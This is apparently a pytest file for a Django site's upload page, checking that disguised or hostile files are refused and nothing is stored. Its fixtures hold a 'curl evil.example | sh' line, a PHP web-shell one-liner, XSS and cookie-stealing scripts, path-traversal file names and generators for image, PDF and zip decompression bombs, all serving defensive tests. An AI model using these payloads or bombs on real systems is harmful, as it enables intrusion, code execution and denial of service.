"""An attacker's uploads, sent as a browser would send them (a multipart POST to the draft's
upload page, the file name exactly as given): every hostile file is refused with a message in the
customer's language and nothing is stored, neither a row nor a file.

The corpus: pages and scripts disguised as documents or photos, images that are also web pages
(polyglots), what we do not accept dressed as what we do, empty and oversize files, and
decompression bombs (images whose dimensions are enormous in a tiny file, a PDF whose streams
expand to gigabytes, a zip bomb named .pdf).

Names are no attack: the file is judged by its content, stored under a random name, and its name
is kept only for display. Django's upload parser already cuts directories and invisible
characters out of the name before our code sees it (a browser never sends them), and the name
is cleaned again (applications.uploads.clean_name): so a real document with a traversal, an
absolute, a right-to-left-override or a very long name is stored under a random name in its
case's folder and listed under a clean name, and a hostile one is refused like any other.
"""

import functools
import io
import re
import struct
import zipfile
import zlib

import pytest
from bs4 import BeautifulSoup
from django import forms
from django.urls import reverse
from django.utils import translation
from PIL import Image

from applications.cases import case_create
from applications.kinds import kind_versions_current
from applications.models import CaseDocument
from applications.uploads import MAX_PDF_INFLATED
from tests.applications.documents import pdf_bytes, png_bytes
from tests.factories import UserFactory

# Who may reach what, and what the site refuses, whatever the date (make test-sweep leaves these
# out of its many dates).
pytestmark = [pytest.mark.django_db, pytest.mark.any_date]

BOUNDARY = "----attacker-boundary-7MA4YWxkTrZu0gW"

HTML = b"<!DOCTYPE html><html><body><script>fetch('/me/privacy/export.json')</script></body></html>"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">'
    b"<script>alert(1)</script></svg>"
)

# The messages, as the code words them (each is compared in the customer's language).
NOT_ACCEPTED = "Only PDF, JPEG and PNG files are accepted."
UNREADABLE_IMAGE = "The image could not be read. Upload a JPEG or PNG photo or scan."
IMAGE_TOO_LARGE = "The image is too large. Upload a smaller photo or scan."
NOT_ONLY_A_PICTURE = (
    "The image contains more than a picture. Upload a plain JPEG or PNG photo or scan."
)
PDF_TOO_LARGE = (
    "The PDF is too large once opened. Save it again at a lower resolution, or upload photos."
)
TOO_BIG = "The file is larger than %(limit)s MB. Upload a smaller scan or photo."


def jpeg_bytes(size=(32, 24)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (30, 90, 200)).save(out, format="JPEG")
    return out.getvalue()


def gif_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("P", (16, 16)).save(out, format="GIF")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A PNG of a few hundred bytes whose header says ``width`` × ``height`` pixels."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\0" * 1024))
        + _chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose frame header says ``width`` × ``height`` pixels."""
    data = bytearray(jpeg_bytes())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_with_comment(comment: bytes) -> bytes:
    """A JPEG carrying ``comment`` in a COM segment right after its start marker."""
    data = jpeg_bytes()
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


@functools.cache
def pdf_bomb() -> bytes:
    """A one-page PDF whose content stream expands to more than MAX_PDF_INFLATED: a few
    hundred kilobytes that any reader inflates to gigabytes' worth of work."""
    stream = _zeros_deflated(MAX_PDF_INFLATED // (1 << 20) + 8)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def _zeros_deflated(megabytes: int, head: bytes = b"", filler: bytes = b"\0") -> bytes:
    deflate = zlib.compressobj(9)
    block = filler * (1 << 20)
    body = deflate.compress(head) + b"".join(deflate.compress(block) for _ in range(megabytes))
    return body + deflate.flush()


def object_stream_bomb() -> bytes:
    """A PDF 1.5 whose page tree sits in an object stream that expands to 100 MB of blanks:
    pypdf must inflate it to read the file at all."""
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    catalog = out.tell()
    out.write(b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n")
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >> "
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> "
    index = b"2 0 3 %d " % len(pages)
    data = _zeros_deflated(100, head=index + pages + page, filler=b" ")
    stream = out.tell()
    out.write(b"4 0 obj\n<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode" % len(index))
    out.write(b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream\nendobj\n")
    xref = out.tell()
    rows = [(0, 0, 255), (1, catalog, 0), (2, 4, 0), (2, 4, 1), (1, stream, 0), (1, xref, 0)]
    table = b"".join(
        struct.pack(">B", kind) + struct.pack(">I", at)[1:] + struct.pack(">B", n)
        for kind, at, n in rows
    )
    out.write(
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 3 1] /Root 1 0 R /Length %d >>\n" % len(table)
    )
    out.write(b"stream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("scan.pdf", b"\0" * (20 << 20))
    return out.getvalue()


# case → (file name, content, the message the customer reads)
HOSTILE = {
    "HTML as a PDF": ("scan.pdf", lambda: HTML, NOT_ACCEPTED),
    "HTML as a photo": ("IMG_0001.jpg", lambda: HTML, NOT_ACCEPTED),
    "HTML before a PDF's header": ("scan.pdf", lambda: HTML + pdf_bytes(), NOT_ACCEPTED),
    "SVG with a script as a PNG": ("id-card.png", lambda: SVG, NOT_ACCEPTED),
    "SVG with a script as a JPEG": ("id-card.jpg", lambda: SVG, NOT_ACCEPTED),
    "SVG with a script as a PDF": ("id-card.pdf", lambda: SVG, NOT_ACCEPTED),
    "shell script as a photo": (
        "photo.jpg",
        lambda: b"#!/bin/sh\ncurl evil.example | sh\n",
        NOT_ACCEPTED,
    ),
    "JavaScript as a PNG": ("photo.png", lambda: b"alert(document.cookie);\n", NOT_ACCEPTED),
    "PHP as a JPEG": ("photo.jpg", lambda: b"<?php system($_GET['c']); ?>\n", NOT_ACCEPTED),
    "Windows program as a PDF": ("deed.pdf", lambda: b"MZ\x90\x00\x03" + b"\0" * 512, NOT_ACCEPTED),
    "GIF as a PNG": ("photo.png", gif_bytes, NOT_ACCEPTED),
    "zip bomb as a PDF": ("scan.pdf", zip_bomb, NOT_ACCEPTED),
    "PNG with a web page after its end": (
        "photo.png",
        lambda: png_bytes() + HTML,
        NOT_ONLY_A_PICTURE,
    ),
    "JPEG with a script in a comment": (
        "photo.jpg",
        lambda: jpeg_with_comment(b"<script>alert(1)</script>"),
        NOT_ONLY_A_PICTURE,
    ),
    "PNG of 100,000 x 100,000 pixels": (
        "photo.png",
        lambda: png_claiming(100_000, 100_000),
        IMAGE_TOO_LARGE,
    ),
    "PNG of 7,000 x 7,000 pixels": (
        "photo.png",
        lambda: png_claiming(7_000, 7_000),
        IMAGE_TOO_LARGE,
    ),
    "JPEG of 65,000 x 65,000 pixels": (
        "photo.jpg",
        lambda: jpeg_claiming(65_000, 65_000),
        IMAGE_TOO_LARGE,
    ),
    "PDF bomb": ("scan.pdf", pdf_bomb, PDF_TOO_LARGE),
    "PDF bomb in an object stream": ("scan.pdf", object_stream_bomb, PDF_TOO_LARGE),
    "truncated photo": ("photo.png", lambda: png_bytes()[:60], UNREADABLE_IMAGE),
}

# case → a file name a browser would never send; the content is a real PNG.
NAMES = {
    "traversal": "../../../../etc/cron.d/evil.png",
    "absolute path": "/var/lib/powerhall/media/applications/x.png",
    "Windows path": "C:\\Windows\\System32\\drivers\\evil.png",
    "backslash traversal": "..\\..\\..\\boot.png",
    "right-to-left override": "invoice\u202egnp.exe",
    "NUL": "photo.png\x00.html",
    "zero-width characters": "pho\u200bto\u200d.png",
    "very long": "证" * 300 + ".png",
    "homoglyph extension": "scan.\u0440df",
    "markup": '"><img src=x onerror=alert(1)>.png',
}


@pytest.fixture
def draft(client):
    """A resident's draft, with the resident signed in (the browser asks for Chinese)."""
    resident = UserFactory()
    client.force_login(resident)
    return case_create(
        version=kind_versions_current()["new_connection"],
        customer_class="residential",
        applicant=resident,
    )


def send(client, draft, name: str, content: bytes, **headers):
    """The upload form posted with ``name`` exactly as given, as raw multipart."""
    head = (
        f"--{BOUNDARY}\r\n"
        'Content-Disposition: form-data; name="document"\r\n\r\n'
        "identity\r\n"
        f"--{BOUNDARY}\r\n"
        f'Content-Disposition: form-data; name="file"; filename="{name}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
    )
    body = head.encode() + content + f"\r\n--{BOUNDARY}--\r\n".encode()
    return client.post(
        reverse("applications:upload", kwargs={"uuid": draft.uuid}),
        body,
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
        **headers,
    )


def stored_files(settings) -> list:
    root = settings.MEDIA_ROOT / "applications"
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def page_text(response) -> str:
    return BeautifulSoup(response.content, "html.parser").get_text(" ", strip=True)


def in_chinese(message: str, **values) -> str:
    with translation.override("zh-hans"):
        translated = translation.gettext(message)
    assert translated != message, f"no Chinese for {message!r}"
    return translated % values if values else translated


def assert_refused(response, draft, settings, message: str) -> None:
    assert response.status_code == 400
    assert message in page_text(response)
    assert not CaseDocument.objects.filter(case=draft).exists()
    assert stored_files(settings) == []


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_with_a_message_and_nothing_is_stored(
    client, draft, settings, case
):
    name, content, message = HOSTILE[case]

    response = send(client, draft, name, content())

    assert_refused(response, draft, settings, in_chinese(message))


def test_an_empty_file_is_refused(client, draft, settings):
    response = send(client, draft, "empty.pdf", b"")

    with translation.override("zh-hans"):
        message = str(forms.FileField.default_error_messages["empty"])
    assert_refused(response, draft, settings, message)


def test_a_file_over_the_limit_is_refused(client, draft, settings):
    settings.APPLICATION_UPLOAD_MAX_BYTES = 1024 * 1024

    response = send(client, draft, "big.png", png_bytes() + b"\0" * (1024 * 1024))

    assert_refused(response, draft, settings, in_chinese(TOO_BIG, limit=1))


def test_a_name_that_is_only_dots_is_no_file(client, draft, settings):
    response = send(client, draft, "..", png_bytes())

    with translation.override("zh-hans"):
        message = str(forms.Field.default_error_messages["required"])
    assert_refused(response, draft, settings, message)


def test_a_customer_reading_english_is_told_in_english(client, draft, settings):
    response = send(client, draft, "scan.pdf", HTML, HTTP_ACCEPT_LANGUAGE="en")

    assert_refused(response, draft, settings, NOT_ACCEPTED)


@pytest.mark.parametrize("case", NAMES)
def test_a_real_document_under_a_tricky_name_is_stored_under_a_random_name(
    client, draft, settings, case
):
    response = send(client, draft, NAMES[case], png_bytes())

    assert response.status_code == 302
    [doc] = CaseDocument.objects.filter(case=draft)
    assert re.fullmatch(rf"applications/{draft.uuid}/[A-Za-z0-9_-]{{32}}\.png", doc.file.name)
    assert [p.relative_to(settings.MEDIA_ROOT).as_posix() for p in stored_files(settings)] == [
        doc.file.name
    ]
    assert doc.name.endswith(".png") and len(doc.name) <= 100
    assert not re.search(r"[/\\:<>\"]|\.\.", doc.name)
    assert doc.name.isprintable()
    download = client.get(
        reverse("applications:document", kwargs={"uuid": draft.uuid, "document": doc.uuid})
    )
    assert download["Content-Type"] == "image/png"
    assert download["Content-Disposition"].startswith("attachment;")
